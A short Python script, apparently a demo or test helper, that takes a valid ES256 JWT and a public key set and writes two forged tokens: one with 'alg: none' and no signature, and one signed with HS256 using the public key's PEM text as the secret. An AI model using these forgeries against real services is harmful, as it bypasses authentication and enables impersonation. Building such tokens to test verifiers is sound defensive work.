#!/usr/bin/env python3
"""Makes the tokens that an attacker would try, out of a good ES256 token and the public keys that everybody may read.

    deploy/demo/forge_tokens.py GOOD_TOKEN_FILE PUBLIC_JWKS_FILE FOLDER

Writes FOLDER/alg-none.jwt (the good claims, `alg: none`, no signature) and FOLDER/public-key-as-secret.jwt (the good claims,
signed by HS256 with the PEM text of the public key as the secret).
"""
import base64
import hashlib
import hmac
import json
import pathlib
import sys

P256_SPKI_PREFIX = bytes.fromhex("3059301306072a8648ce3d020106082a8648ce3d03010703420004")


def encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def pem(jwk: dict) -> bytes:
    text = base64.encodebytes(P256_SPKI_PREFIX + decode(jwk["x"]) + decode(jwk["y"])).decode().replace("\n", "")
    lines = [text[at:at + 64] for at in range(0, len(text), 64)]
    return "\n".join(["-----BEGIN PUBLIC KEY-----", *lines, "-----END PUBLIC KEY-----", ""]).encode()


good, public_keys, folder = map(pathlib.Path, sys.argv[1:])
header, claims, _ = good.read_text().strip().split(".")
kid = json.loads(decode(header)).get("kid")
public_key = next(key for key in json.loads(public_keys.read_text())["keys"] if key.get("crv") == "P-256")


def with_algorithm(name: str) -> str:
    return encode(json.dumps({"alg": name, "typ": "JWT", "kid": kid}).encode()) + "." + claims


unsigned = with_algorithm("none") + "."
(folder / "alg-none.jwt").write_text(unsigned + "\n")

signing_input = with_algorithm("HS256")
signature = hmac.new(pem(public_key), signing_input.encode(), hashlib.sha256).digest()
(folder / "public-key-as-secret.jwt").write_text(f"{signing_input}.{encode(signature)}\n")
